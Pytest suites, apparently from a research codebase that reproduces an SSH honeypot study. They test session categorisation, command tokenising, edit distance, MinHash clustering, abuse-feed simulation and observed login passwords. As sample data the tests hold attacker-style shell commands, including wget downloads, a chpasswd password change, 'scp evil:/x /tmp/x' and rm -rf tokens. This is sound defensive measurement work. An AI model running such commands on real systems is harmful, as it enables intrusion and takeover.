class TestPasswordCounts:
    def test_successful_password_extracted(self):
        record = session(
            [LoginAttempt("root", "bad", False), LoginAttempt("root", "good", True)]
        )
        assert successful_login_password(record) == "good"

    def test_failed_session_none(self):
        record = session([LoginAttempt("root", "root", False)])
        assert successful_login_password(record) is None

    def test_monthly_counts(self):
        sessions = [
            session([LoginAttempt("root", "1234", True)], date(2023, 1, 5)),
            session([LoginAttempt("root", "1234", True)], date(2023, 1, 6)),
            session([LoginAttempt("root", "admin", True)], date(2023, 2, 5)),
        ]
        counts = monthly_password_counts(sessions)
        assert counts["2023-01"]["1234"] == 2
        assert counts["2023-02"]["admin"] == 1

    def test_top_passwords(self):
        sessions = [
            session([LoginAttempt("root", "a", True)]),
            session([LoginAttempt("root", "a", True)], date(2023, 1, 11)),
            session([LoginAttempt("root", "b", True)], date(2023, 1, 12)),
        ]
        assert top_passwords(sessions, 1) == [("a", 2)]

    def test_sessions_with_password(self):
        match = session([LoginAttempt("root", "3245gs5662d34", True)])
        other = session([LoginAttempt("root", "x", True)], date(2023, 1, 11))
        assert sessions_with_password([match, other], "3245gs5662d34") == [match]

    def test_figure10_password_list(self):
        assert "3245gs5662d34" in FIGURE10_PASSWORDS
        assert "dreambox" in FIGURE10_PASSWORDS


class TestDefaultAccountStats:
    def test_stats(self, dataset):
        ssh = dataset.database.ssh_sessions()
        phil = default_account_stats(ssh, "phil", dataset.whois)
        assert phil.sessions > 0
        assert phil.successes == phil.sessions  # phil always accepted
        assert phil.silent_fraction > 0.7
        assert phil.unique_ips > 5
        assert phil.unique_ases > 3

    def test_richard_never_succeeds(self, dataset):
        ssh = dataset.database.ssh_sessions()
        richard = default_account_stats(ssh, "richard", dataset.whois)
        assert richard.sessions > 0
        assert richard.successes == 0
        assert richard.silent_fraction == 0.0

    def test_unknown_username_empty(self, dataset):
        stats = default_account_stats(
            dataset.database.ssh_sessions(), "nosuchuser", dataset.whois
        )
        assert stats.sessions == 0
