"""Property tests for the telemetry merge algebra.

The parallel engine's telemetry guarantee rests on two algebraic facts:
histogram bucket placement is a pure function of (value, layout), and
registry merging is associative with the empty registry as identity and
no value loss.  Hypothesis sweeps those properties over arbitrary
values, layouts and partitions.
"""

from __future__ import annotations

from hypothesis import given, strategies as st

from repro.telemetry.metrics import (
    SECONDS_BOUNDS,
    VOLUME_BOUNDS,
    Histogram,
    MetricsRegistry,
    SpanStats,
)

finite_floats = st.floats(
    min_value=-1e9, max_value=1e9, allow_nan=False, allow_infinity=False
)

bounds_layouts = st.sampled_from(
    [VOLUME_BOUNDS, SECONDS_BOUNDS, (0.0,), (1.0, 2.0, 3.0)]
)

counter_dicts = st.dictionaries(
    st.sampled_from(["a", "b", "c", "sim.days", "parallel.shards"]),
    st.integers(min_value=0, max_value=10**9),
    max_size=5,
)


def histogram_of(values, bounds) -> Histogram:
    histogram = Histogram(bounds)
    for value in values:
        histogram.observe(value)
    return histogram


class TestHistogramBucketMath:
    @given(values=st.lists(finite_floats, max_size=50), bounds=bounds_layouts)
    def test_every_value_lands_in_exactly_one_bucket(self, values, bounds):
        histogram = histogram_of(values, bounds)
        assert sum(histogram.counts) == len(values) == histogram.count

    @given(value=finite_floats, bounds=bounds_layouts)
    def test_bucket_placement_brackets_the_value(self, value, bounds):
        histogram = histogram_of([value], bounds)
        index = histogram.counts.index(1)
        if index > 0:
            assert value > bounds[index - 1]
        if index < len(bounds):
            assert value <= bounds[index]

    @given(
        left=st.lists(finite_floats, max_size=30),
        right=st.lists(finite_floats, max_size=30),
        bounds=bounds_layouts,
    )
    def test_merge_equals_histogram_of_concatenation(
        self, left, right, bounds
    ):
        merged = histogram_of(left, bounds)
        merged.merge(histogram_of(right, bounds))
        whole = histogram_of(left + right, bounds)
        assert merged.counts == whole.counts
        assert merged.count == whole.count
        assert merged.min == whole.min
        assert merged.max == whole.max

    @given(
        parts=st.lists(
            st.lists(st.integers(min_value=0, max_value=10**6), max_size=20),
            min_size=3,
            max_size=3,
        )
    )
    def test_merge_is_associative_for_integer_values(self, parts):
        """With integer observations the float sum is exact, so both
        association orders agree on every field, sum included."""
        a, b, c = parts
        bounds = VOLUME_BOUNDS

        left = histogram_of(a, bounds)
        left.merge(histogram_of(b, bounds))
        left.merge(histogram_of(c, bounds))

        bc = histogram_of(b, bounds)
        bc.merge(histogram_of(c, bounds))
        right = histogram_of(a, bounds)
        right.merge(bc)

        assert left.to_dict() == right.to_dict()

    @given(values=st.lists(finite_floats, max_size=30), bounds=bounds_layouts)
    def test_empty_histogram_is_merge_identity(self, values, bounds):
        histogram = histogram_of(values, bounds)
        before = histogram.to_dict()
        histogram.merge(Histogram(bounds))
        assert histogram.to_dict() == before

        empty = Histogram(bounds)
        empty.merge(histogram_of(values, bounds))
        assert empty.to_dict() == before


class TestRegistryMerge:
    @given(parts=st.lists(counter_dicts, min_size=3, max_size=3))
    def test_counter_merge_is_associative(self, parts):
        def registry_of(counters):
            registry = MetricsRegistry()
            for name, value in counters.items():
                registry.count(name, value)
            return registry

        a, b, c = parts
        left = registry_of(a)
        left.merge(registry_of(b))
        left.merge(registry_of(c))

        bc = registry_of(b)
        bc.merge(registry_of(c))
        right = registry_of(a)
        right.merge(bc)

        assert left.counters == right.counters

    @given(parts=st.lists(counter_dicts, min_size=1, max_size=4))
    def test_no_value_loss_across_any_partition(self, parts):
        merged = MetricsRegistry()
        for counters in parts:
            shard = MetricsRegistry()
            for name, value in counters.items():
                shard.count(name, value)
            merged.merge(shard)
        expected: dict[str, int] = {}
        for counters in parts:
            for name, value in counters.items():
                expected[name] = expected.get(name, 0) + value
        assert merged.counters == expected

    @given(
        values=st.lists(
            st.floats(min_value=0.0, max_value=1e6, allow_nan=False),
            max_size=30,
        ),
        cut=st.integers(min_value=0, max_value=30),
    )
    def test_span_stats_merge_matches_single_stream(self, values, cut):
        cut = min(cut, len(values))
        merged = SpanStats()
        for value in values[:cut]:
            merged.record(value)
        tail = SpanStats()
        for value in values[cut:]:
            tail.record(value)
        merged.merge(tail)

        whole = SpanStats()
        for value in values:
            whole.record(value)
        assert merged.count == whole.count
        assert merged.min_s == whole.min_s
        assert merged.max_s == whole.max_s
        assert abs(merged.total_s - whole.total_s) <= 1e-6 * max(
            1.0, abs(whole.total_s)
        )

    @given(values=st.lists(finite_floats, max_size=20), bounds=bounds_layouts)
    def test_export_roundtrip_preserves_histograms(self, values, bounds):
        registry = MetricsRegistry()
        for value in values:
            registry.observe("h", value, bounds)
        restored = MetricsRegistry.from_export(registry.export())
        assert restored.export() == registry.export()
