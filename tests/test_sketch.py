"""Property suite for the MinHash/LSH prefilter (repro.analysis.sketch).

Three satellite obligations from the issue, all pinned against exact
oracles:

* MinHash signatures are deterministic under seed and stable under
  permutation of the shingle set's presentation order.
* LSH banding never dismisses a pair whose true Jaccard is above the
  guarantee curve (no-false-dismissal), and identical-signature pairs
  are always candidates.
* The sketch-layer bounds compose with ``dld_bounds``: the combined
  lower bound never exceeds the exact Damerau-Levenshtein distance and
  the upper never undercuts it, on generated token sequences.

Plus the exactness contract of the pruned matrix itself: below the
activation floor the sketch path *is* the exact path (bit-identical);
with the floor forced to zero every measured entry equals the exact
oracle and every pruned entry is a sound upper bound.
"""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro import telemetry
from repro.analysis.dld import damerau_levenshtein, dld_bounds
from repro.analysis.distance import (
    clear_distance_caches,
    distance_matrix,
    pair_distance,
)
from repro.analysis.sketch import (
    DEFAULT_SKETCH_CONFIG,
    PRUNED_DISTANCE,
    MinHashSketcher,
    SketchConfig,
    clear_sketch_caches,
    combined_bounds,
    lsh_candidate_pairs,
    overlap_lower_bound,
    shingle_hashes,
    sketch_distance_matrix,
    synthetic_token_corpus,
)

pytestmark = pytest.mark.sketch

#: A small but realistic token alphabet for generated sequences.
TOKENS = st.sampled_from(
    ["cd", "/tmp", "wget", "<url>", "<ip>", "chmod", "777", "sh", "rm",
     "-rf", "uname", "-a", "echo", "<blob>", "cat", "busybox", "x.sh"]
)
SEQUENCES = st.lists(TOKENS, min_size=0, max_size=25)


def make_config(**overrides) -> SketchConfig:
    defaults = dict(num_perm=32, bands=16, shingle_size=2, min_sequences=0)
    defaults.update(overrides)
    return SketchConfig(**defaults)


@pytest.fixture(autouse=True)
def _fresh_caches():
    clear_distance_caches()
    clear_sketch_caches()
    yield


class TestSketchConfig:
    def test_defaults_are_valid(self):
        assert DEFAULT_SKETCH_CONFIG.rows * DEFAULT_SKETCH_CONFIG.bands == (
            DEFAULT_SKETCH_CONFIG.num_perm
        )

    def test_bands_must_divide(self):
        with pytest.raises(ValueError):
            SketchConfig(num_perm=128, bands=33)

    def test_collision_probability_is_monotone(self):
        config = DEFAULT_SKETCH_CONFIG
        grid = np.linspace(0.0, 1.0, 21)
        values = [config.collision_probability(s) for s in grid]
        assert values == sorted(values)
        assert values[0] == 0.0
        assert values[-1] == 1.0

    def test_guaranteed_jaccard_bounds_dismissal(self):
        config = DEFAULT_SKETCH_CONFIG
        p = 1e-9
        s = config.guaranteed_jaccard(p)
        # at similarity s the survival (non-collision) probability is <= p
        assert (1.0 - s**config.rows) ** config.bands <= p * (1 + 1e-9)
        assert config.collision_probability(s) >= 1.0 - p * (1 + 1e-9)


class TestMinHashSignatures:
    @given(seq=SEQUENCES)
    @settings(max_examples=60, deadline=None)
    def test_deterministic_under_seed(self, seq):
        a = MinHashSketcher(make_config()).signature(seq)
        b = MinHashSketcher(make_config()).signature(seq)
        assert np.array_equal(a, b)

    @given(seq=st.lists(TOKENS, min_size=1, max_size=25), data=st.data())
    @settings(max_examples=60, deadline=None)
    def test_permutation_stable_over_shingle_set(self, seq, data):
        """Reordering tokens preserves the signature whenever it
        preserves the shingle *set* — exactly true at shingle_size=1
        (token-set semantics)."""
        config = make_config(shingle_size=1)
        sketcher = MinHashSketcher(config)
        shuffled = data.draw(st.permutations(seq))
        assert np.array_equal(
            sketcher.signature(seq), sketcher.signature(list(shuffled))
        )

    @given(seq=SEQUENCES)
    @settings(max_examples=60, deadline=None)
    def test_different_seeds_differ(self, seq):
        base = MinHashSketcher(make_config()).signature(seq)
        other = MinHashSketcher(make_config(seed=99)).signature(seq)
        # not a hard guarantee per-component, but equal full signatures
        # under different permutations would mean a broken permutation
        if len(seq) >= 2:
            assert not np.array_equal(base, other)

    def test_signature_estimates_jaccard(self):
        config = SketchConfig(
            num_perm=512, bands=128, shingle_size=1, min_sequences=0
        )
        sketcher = MinHashSketcher(config)
        a = [f"t{i}" for i in range(20)]
        b = [f"t{i}" for i in range(10, 30)]  # |∩|=10, |∪|=30
        estimate = MinHashSketcher.estimated_jaccard(
            sketcher.signature(a), sketcher.signature(b)
        )
        assert abs(estimate - 1 / 3) < 0.12  # ~5 sigma at 512 perms

    def test_empty_sequence_has_total_signature(self):
        sketcher = MinHashSketcher(make_config())
        signature = sketcher.signature([])
        assert signature.shape == (32,)
        assert np.array_equal(signature, sketcher.signature(()))

    def test_shingle_hashes_shorter_than_width(self):
        assert shingle_hashes(["one"], 2).shape == (1,)
        assert shingle_hashes([], 2).shape == (1,)


class TestLshNoFalseDismissal:
    def test_identical_signatures_always_candidates(self):
        config = make_config()
        sketcher = MinHashSketcher(config)
        seqs = [["wget", "<url>", "sh"], ["wget", "<url>", "sh"]]
        # identical sequences dedup upstream, but identical *signatures*
        # from distinct sequences must still collide in every band
        signatures = sketcher.signatures(seqs)
        assert (0, 1) in lsh_candidate_pairs(signatures, config)

    @given(data=st.data())
    @settings(max_examples=30, deadline=None)
    def test_above_guarantee_curve_never_dismissed(self, data):
        """Pairs whose true shingle Jaccard exceeds the guarantee curve
        at dismissal probability 1e-12 are candidates — over the
        property run the expected number of counterexamples is ~1e-10,
        i.e. a failure here is a real bug, not bad luck."""
        config = SketchConfig(
            num_perm=128, bands=64, shingle_size=1, min_sequences=0
        )
        guarantee = config.guaranteed_jaccard(1e-12)
        base = data.draw(st.lists(TOKENS, min_size=8, max_size=20))
        # mutate a copy lightly so the pair stays above the curve
        mutated = list(base)
        mutated.append(data.draw(TOKENS))
        set_a = set(shingle_hashes(base, 1).tolist())
        set_b = set(shingle_hashes(mutated, 1).tolist())
        jaccard = len(set_a & set_b) / len(set_a | set_b)
        if jaccard < guarantee:
            return  # below the curve: no guarantee claimed
        sketcher = MinHashSketcher(config)
        signatures = sketcher.signatures([base, mutated])
        assert (0, 1) in lsh_candidate_pairs(signatures, config)

    def test_recall_tracks_guarantee_curve_on_corpus(self):
        """Empirical recall on the synthetic corpus at several Jaccard
        levels is at least the guarantee curve's prediction minus a
        small sampling slack."""
        config = SketchConfig(min_sequences=0)
        corpus = [tuple(c) for c in synthetic_token_corpus(300, seed=5)]
        sketcher = MinHashSketcher(config)
        signatures = sketcher.signatures(corpus)
        candidates = set(lsh_candidate_pairs(signatures, config))
        shingle_sets = [
            set(shingle_hashes(seq, config.shingle_size).tolist())
            for seq in corpus
        ]
        buckets: dict[int, list[bool]] = {}
        for i in range(len(corpus)):
            for j in range(i + 1, len(corpus)):
                union = shingle_sets[i] | shingle_sets[j]
                jaccard = len(shingle_sets[i] & shingle_sets[j]) / len(union)
                level = int(jaccard * 10)
                buckets.setdefault(level, []).append((i, j) in candidates)
        for level, hits in sorted(buckets.items()):
            if len(hits) < 20:
                continue
            predicted = config.collision_probability(level / 10)
            observed = sum(hits) / len(hits)
            assert observed >= predicted - 0.1, (
                f"recall {observed:.3f} at Jaccard~{level / 10:.1f} far "
                f"below predicted {predicted:.3f}"
            )


class TestBoundsComposition:
    @given(a=SEQUENCES, b=SEQUENCES)
    @settings(max_examples=120, deadline=None)
    def test_combined_bounds_bracket_exact_dld(self, a, b):
        lower, upper = combined_bounds(tuple(a), tuple(b))
        exact = damerau_levenshtein(tuple(a), tuple(b))
        assert lower <= exact <= upper

    @given(a=SEQUENCES, b=SEQUENCES)
    @settings(max_examples=120, deadline=None)
    def test_combined_never_looser_than_dld_bounds(self, a, b):
        base_lower, base_upper = dld_bounds(tuple(a), tuple(b))
        lower, upper = combined_bounds(tuple(a), tuple(b))
        assert lower >= base_lower
        assert upper == base_upper

    @given(a=SEQUENCES)
    @settings(max_examples=40, deadline=None)
    def test_overlap_bound_zero_on_self(self, a):
        assert overlap_lower_bound(tuple(a), tuple(a)) == 0

    def test_disjoint_multisets_pin_normalized_distance(self):
        a = ("alpha", "beta", "gamma")
        b = ("delta", "epsilon")
        lower, upper = combined_bounds(a, b)
        assert lower == upper == 3
        assert pair_distance(a, b) == 1.0


class TestSketchMatrixContract:
    def test_below_floor_bypasses_to_exact_bits(self):
        corpus = synthetic_token_corpus(80, seed=1)
        exact = distance_matrix(corpus)
        approx = sketch_distance_matrix(corpus, DEFAULT_SKETCH_CONFIG)
        assert approx.mode == "exact"
        assert approx.exact
        assert not approx.pruned.any()
        assert np.array_equal(exact, approx.values)

    def test_distance_matrix_lsh_mode_below_floor_identical(self):
        corpus = synthetic_token_corpus(60, seed=2)
        assert np.array_equal(
            distance_matrix(corpus), distance_matrix(corpus, mode="lsh")
        )

    def test_distance_matrix_rejects_unknown_mode(self):
        with pytest.raises(ValueError):
            distance_matrix([["a"]], mode="fuzzy")

    def test_forced_floor_measured_entries_equal_exact(self):
        corpus = synthetic_token_corpus(200, seed=3)
        config = SketchConfig(min_sequences=0)
        approx = sketch_distance_matrix(corpus, config)
        exact = distance_matrix(corpus)
        assert approx.mode == "lsh"
        assert approx.pruned_pairs > 0
        measured = ~approx.pruned
        assert np.array_equal(approx.values[measured], exact[measured])
        # pruned entries hold the trivial upper bound, which is sound
        assert np.all(approx.values[approx.pruned] == PRUNED_DISTANCE)
        assert np.all(approx.values[approx.pruned] >= exact[approx.pruned])

    def test_matrix_is_symmetric_with_zero_diagonal(self):
        corpus = synthetic_token_corpus(150, seed=4)
        approx = sketch_distance_matrix(corpus, SketchConfig(min_sequences=0))
        assert np.array_equal(approx.values, approx.values.T)
        assert np.all(np.diag(approx.values) == 0.0)
        assert not np.diag(approx.pruned).any()

    def test_duplicates_share_rows_and_empty_pairs_are_pinned(self):
        corpus = [["wget", "<url>"], [], ["wget", "<url>"], ["uname", "-a"]]
        config = make_config()
        approx = sketch_distance_matrix(corpus, config)
        assert approx.distinct_sequences == 3
        assert np.array_equal(approx.values[0], approx.values[2])
        # empty-vs-nonempty is exactly 1.0 and never marked pruned
        assert approx.values[1, 0] == 1.0
        assert not approx.pruned[1, 0]

    def test_serial_equals_two_workers(self):
        corpus = synthetic_token_corpus(260, seed=6)
        config = SketchConfig(min_sequences=0)
        serial = sketch_distance_matrix(corpus, config, workers=1)
        parallel = sketch_distance_matrix(corpus, config, workers=2)
        assert np.array_equal(serial.values, parallel.values)
        assert np.array_equal(serial.pruned, parallel.pruned)
        assert serial.candidate_pairs == parallel.candidate_pairs

    def test_telemetry_counts_pair_disposition(self):
        corpus = synthetic_token_corpus(150, seed=7)
        config = SketchConfig(min_sequences=0)
        with telemetry.collecting() as registry:
            approx = sketch_distance_matrix(corpus, config)
        counters = registry.counters
        assert counters["sketch.matrix_builds"] == 1
        assert counters["sketch.signatures"] == 150
        assert counters["sketch.candidate_pairs"] == approx.candidate_pairs
        assert counters["sketch.pruned_pairs"] == approx.pruned_pairs
        total = 150 * 149 // 2
        assert (
            counters["sketch.candidate_pairs"]
            + counters["sketch.pinned_pairs"]
            + counters["sketch.pruned_pairs"]
        ) == total
        assert "sketch.candidate_ratio" in registry.gauges

    def test_bypass_counts_telemetry(self):
        with telemetry.collecting() as registry:
            sketch_distance_matrix(
                synthetic_token_corpus(10, seed=8), DEFAULT_SKETCH_CONFIG
            )
        assert registry.counters["sketch.bypassed"] == 1
        assert "sketch.matrix_builds" not in registry.counters


class TestSyntheticCorpus:
    def test_deterministic_and_distinct(self):
        a = synthetic_token_corpus(120, seed=9)
        b = synthetic_token_corpus(120, seed=9)
        assert a == b
        assert len({tuple(seq) for seq in a}) == 120

    def test_different_seeds_differ(self):
        assert synthetic_token_corpus(50, seed=1) != synthetic_token_corpus(
            50, seed=2
        )
