"""Abuse feeds, Killnet list, Shadowserver report."""

from __future__ import annotations

import pytest

from repro.abusedb.aggregate import build_abuse_datasets
from repro.abusedb.feeds import ALWAYS_KNOWN_STRAINS
from repro.abusedb.killnet import MIN_OVERLAP, build_killnet_list
from repro.abusedb.shadowserver import build_shadowserver_report
from repro.attackers.malware import MalwareFactory, MalwareFamily
from repro.util.hashing import sha256_hex
from repro.util.rng import RngTree


@pytest.fixture
def factory():
    factory = MalwareFactory(RngTree(3))
    # populate the catalogue with a spread of variants
    for family in (MalwareFamily.MIRAI, MalwareFamily.GAFGYT, MalwareFamily.DOFLOO):
        for day in range(0, 700, 7):
            factory.sample_for(family, f"stream-{family.value}", 738000 + day)
    return factory


class TestFeeds:
    def test_coverage_is_minority(self, factory):
        abuse = build_abuse_datasets(factory, [])
        total = len(factory.catalogue)
        known = sum(1 for h in factory.catalogue if abuse.label(h))
        assert 0 < known < 0.25 * total  # paper: <5% at full population

    def test_labels_match_family_or_generic(self, factory):
        abuse = build_abuse_datasets(factory, [])
        for digest, sample in factory.catalogue.items():
            label = abuse.label(digest)
            if label is not None:
                assert label in (sample.family.value, "Malicious")

    def test_known_strains_widely_labelled(self, factory):
        abuse = build_abuse_datasets(factory, [])
        classic = [
            digest
            for digest, sample in factory.catalogue.items()
            if sample.strain in ALWAYS_KNOWN_STRAINS
        ]
        # (streams above use non-known strains, so craft one)
        for day in range(0, 700, 7):
            factory.sample_for(MalwareFamily.MIRAI, "tv", 738000 + day, strain="tvbox")
        abuse = build_abuse_datasets(factory, [])
        tvbox = [
            digest
            for digest, sample in factory.catalogue.items()
            if sample.strain == "tvbox"
        ]
        known = sum(1 for digest in tvbox if abuse.label(digest))
        assert known / len(tvbox) > 0.25

    def test_extra_hashes(self, factory):
        abuse = build_abuse_datasets(factory, [], extra_hashes={"ff" * 32: "CoinMiner"})
        assert abuse.label("ff" * 32) == "CoinMiner"

    def test_ip_coverage_about_56_percent(self, factory):
        ips = [f"10.0.{i // 256}.{i % 256}" for i in range(800)]
        abuse = build_abuse_datasets(factory, ips)
        reported = sum(1 for ip in ips if abuse.is_reported_ip(ip))
        assert 0.48 < reported / len(ips) < 0.64

    def test_unknown_lookups(self, factory):
        abuse = build_abuse_datasets(factory, [])
        assert abuse.label("00" * 32) is None
        assert abuse.lookup_ip("203.0.113.1") is None

    def test_feed_access(self, factory):
        abuse = build_abuse_datasets(factory, [])
        assert abuse.feed("VirusTotal").name == "VirusTotal"
        with pytest.raises(KeyError):
            abuse.feed("nope")

    def test_virustotal_supersets_others(self, factory):
        abuse = build_abuse_datasets(factory, [])
        vt = set(abuse.feed("VirusTotal").hash_records)
        for name in ("abuse.ch", "ArmstrongTechs"):
            assert set(abuse.feed(name).hash_records) <= vt

    def test_deterministic(self, factory):
        a = build_abuse_datasets(factory, [])
        b = build_abuse_datasets(factory, [])
        assert a.known_hashes() == b.known_hashes()


class TestKillnet:
    def test_overlap_with_actor_pool(self):
        from repro.net.population import build_base_population

        population = build_base_population(RngTree(4).child("net"), 65)
        actor_ips = [f"172.2.3.{i}" for i in range(1, 40)]
        killnet = build_killnet_list(actor_ips, population, RngTree(4))
        overlap = killnet & set(actor_ips)
        assert len(overlap) >= MIN_OVERLAP
        assert len(killnet - set(actor_ips)) > len(overlap)  # mostly noise

    def test_empty_pool(self):
        from repro.net.population import build_base_population

        population = build_base_population(RngTree(4).child("net"), 65)
        killnet = build_killnet_list([], population, RngTree(4))
        assert killnet  # still a list, just noise


class TestShadowserver:
    def test_mdrfckr_key_most_prevalent(self):
        report = build_shadowserver_report("KEY-A mdrfckr", "KEY-B rapper", 1e-4, RngTree(4))
        assert report.most_prevalent() == sha256_hex("KEY-A mdrfckr")
        assert report.host_count(sha256_hex("KEY-A mdrfckr")) >= 6

    def test_unknown_key_zero(self):
        report = build_shadowserver_report("A", "B", 1e-4, RngTree(4))
        assert report.host_count("nope") == 0

    def test_tail_of_other_keys(self):
        report = build_shadowserver_report("A", "B", 1e-4, RngTree(4))
        assert len(report.hosts_by_key) >= 10
