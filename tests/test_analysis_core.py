"""Categories, state change, tokenizer, DLD."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.categories import SessionCategory, categorize, category_counts
from repro.analysis.dld import damerau_levenshtein, normalized_dld
from repro.analysis.statechange import (
    ExecOutcome,
    StateClass,
    changes_state,
    exec_outcome,
    state_class,
)
from repro.analysis.tokenizer import normalize_tokens, tokenize_text
from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)


def session(
    logins=(),
    commands=(),
    file_events=(),
) -> SessionRecord:
    return SessionRecord(
        session_id="s",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=0.0,
        end=1.0,
        logins=list(logins),
        commands=[CommandRecord(raw=c, known=True) for c in commands],
        file_events=list(file_events),
    )


OK = LoginAttempt("root", "x", True)
FAIL = LoginAttempt("root", "root", False)


class TestCategories:
    def test_scanning(self):
        assert categorize(session()) == SessionCategory.SCANNING

    def test_scouting(self):
        assert categorize(session(logins=[FAIL])) == SessionCategory.SCOUTING

    def test_intrusion(self):
        assert categorize(session(logins=[FAIL, OK])) == SessionCategory.INTRUSION

    def test_command_execution(self):
        record = session(logins=[OK], commands=["uname -a"])
        assert categorize(record) == SessionCategory.COMMAND_EXECUTION

    def test_counts(self):
        counts = category_counts([session(), session(logins=[OK])])
        assert counts[SessionCategory.SCANNING] == 1
        assert counts[SessionCategory.INTRUSION] == 1


class TestStateChange:
    def test_info_only_is_non_state(self):
        record = session(logins=[OK], commands=["uname -a", "nproc"])
        assert state_class(record) == StateClass.NON_STATE

    def test_file_event_is_state(self):
        record = session(
            logins=[OK],
            commands=["echo x > f"],
            file_events=[FileEvent("/tmp/f", FileOp.CREATE, "aa")],
        )
        assert state_class(record) == StateClass.STATE_NO_EXEC

    def test_failed_download_is_state_by_intent(self):
        record = session(logins=[OK], commands=["wget http://h/f"])
        assert changes_state(record)

    def test_chpasswd_is_state(self):
        record = session(logins=[OK], commands=['echo "root:x"|chpasswd'])
        assert changes_state(record)

    def test_echo_without_redirect_not_state(self):
        record = session(logins=[OK], commands=["echo ok"])
        assert not changes_state(record)

    def test_exec_event_wins(self):
        record = session(
            logins=[OK],
            commands=["./f"],
            file_events=[FileEvent("/tmp/f", FileOp.EXECUTE, "aa")],
        )
        assert state_class(record) == StateClass.STATE_EXEC

    def test_exec_outcome_exists(self):
        record = session(
            logins=[OK],
            file_events=[FileEvent("/tmp/f", FileOp.EXECUTE, "aa")],
        )
        assert exec_outcome(record) == ExecOutcome.FILE_EXISTS

    def test_exec_outcome_missing(self):
        record = session(
            logins=[OK],
            file_events=[FileEvent("/tmp/f", FileOp.EXECUTE_MISSING, None)],
        )
        assert exec_outcome(record) == ExecOutcome.FILE_MISSING

    def test_mixed_outcome_counts_as_exists(self):
        record = session(
            logins=[OK],
            file_events=[
                FileEvent("/tmp/a", FileOp.EXECUTE_MISSING, None),
                FileEvent("/tmp/b", FileOp.EXECUTE, "bb"),
            ],
        )
        assert exec_outcome(record) == ExecOutcome.FILE_EXISTS

    def test_no_exec_is_none(self):
        assert exec_outcome(session(logins=[OK])) is None

    def test_scp_attempt_is_state(self):
        record = session(logins=[OK], commands=["scp evil:/x /tmp/x"])
        assert changes_state(record)


class TestTokenizer:
    def test_splits_on_operators(self):
        assert tokenize_text("mkdir /tmp;cd /tmp") == ["mkdir", "/tmp", "cd", "/tmp"]

    def test_strips_quotes(self):
        assert tokenize_text("echo 'ok'") == ["echo", "ok"]

    def test_collapses_blobs(self):
        blob = "A" * 60
        assert tokenize_text(f"echo {blob}") == ["echo", "<blob>"]

    def test_normalize_ip(self):
        assert normalize_tokens(["1.2.3.4"]) == ["<ip>"]
        assert normalize_tokens(["1.2.3.4:8080"]) == ["<ip>"]

    def test_normalize_url(self):
        assert normalize_tokens(["http://h/f"]) == ["<url>"]

    def test_normalize_credentials(self):
        assert normalize_tokens(['root:Ab12Cd34"']) == ["<cred>"]
        assert normalize_tokens(["root:x"]) == ["root:x"]  # too short

    def test_keeps_ordinary_tokens(self):
        assert normalize_tokens(["wget", "-q"]) == ["wget", "-q"]


class TestDld:
    def test_identical(self):
        assert damerau_levenshtein(["a", "b"], ["a", "b"]) == 0

    def test_paper_example(self):
        # "mkdir /tmp" vs "cd /tmp" → one token substitution
        assert damerau_levenshtein(["mkdir", "/tmp"], ["cd", "/tmp"]) == 1

    def test_insertion_deletion(self):
        assert damerau_levenshtein(["a"], ["a", "b"]) == 1
        assert damerau_levenshtein(["a", "b"], ["a"]) == 1

    def test_transposition(self):
        assert damerau_levenshtein(["a", "b"], ["b", "a"]) == 1

    def test_empty_sequences(self):
        assert damerau_levenshtein([], []) == 0
        assert damerau_levenshtein([], ["x", "y"]) == 2

    def test_disjoint_is_max_length(self):
        assert damerau_levenshtein(["a", "b"], ["c", "d", "e"]) == 3

    def test_normalized_bounds(self):
        assert normalized_dld([], []) == 0.0
        assert normalized_dld(["a"], ["b"]) == 1.0

    _token_lists = st.lists(
        st.sampled_from(["cd", "/tmp", "wget", "<url>", "chmod", "rm"]),
        max_size=12,
    )

    @given(_token_lists, _token_lists)
    @settings(max_examples=120)
    def test_metric_properties(self, a, b):
        distance = damerau_levenshtein(a, b)
        assert damerau_levenshtein(b, a) == distance  # symmetry
        assert distance >= abs(len(a) - len(b))       # length lower bound
        assert distance <= max(len(a), len(b))        # substitution upper bound
        if a == b:
            assert distance == 0
        norm = normalized_dld(a, b)
        assert 0.0 <= norm <= 1.0

    @given(_token_lists)
    @settings(max_examples=60)
    def test_identity_property(self, a):
        assert damerau_levenshtein(a, a) == 0
