"""Text rendering helpers."""

from __future__ import annotations

import pytest

from repro.util.text import (
    ascii_bar,
    ascii_series,
    format_table,
    human_count,
    percentage,
)


class TestFormatTable:
    def test_alignment(self):
        table = format_table(["name", "n"], [["a", 1], ["longer", 22]])
        lines = table.splitlines()
        assert lines[0].startswith("name")
        assert len(lines) == 4
        # all rows visually aligned on the second column
        assert lines[2].index("1") == lines[3].index("2")

    def test_empty_rows(self):
        table = format_table(["x"], [])
        assert "x" in table

    def test_wide_cells_extend_columns(self):
        table = format_table(["a"], [["mmmmmmmmmm", "extra"]])
        assert "extra" in table


class TestAscii:
    def test_bar_scaling(self):
        assert ascii_bar(5, 10, width=10) == "#####"
        assert ascii_bar(0, 10) == ""
        assert ascii_bar(3, 0) == ""

    def test_series(self):
        chart = ascii_series(["a", "bb"], [1.0, 2.0], width=4)
        lines = chart.splitlines()
        assert len(lines) == 2
        assert lines[1].count("#") == 4

    def test_series_length_mismatch(self):
        with pytest.raises(ValueError):
            ascii_series(["a"], [1.0, 2.0])


class TestNumbers:
    def test_percentage(self):
        assert percentage(1, 4) == 25.0
        assert percentage(1, 0) == 0.0

    def test_human_count(self):
        assert human_count(512) == "512"
        assert human_count(2_500) == "2.5K"
        assert human_count(3_000_000) == "3.0M"
