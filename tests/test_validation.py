"""Ground-truth validation of the classifier."""

from __future__ import annotations

from repro.analysis.validation import validate_classifier
from repro.attackers.labels import COMMANDLESS_BOTS, EXPECTED_CATEGORY
from repro.honeypot.session import (
    CommandRecord,
    LoginAttempt,
    Protocol,
    SessionRecord,
)


def session(bot_label: str, text: str) -> SessionRecord:
    return SessionRecord(
        session_id=f"s-{bot_label}-{hash(text) & 0xFFFF}",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=0.0,
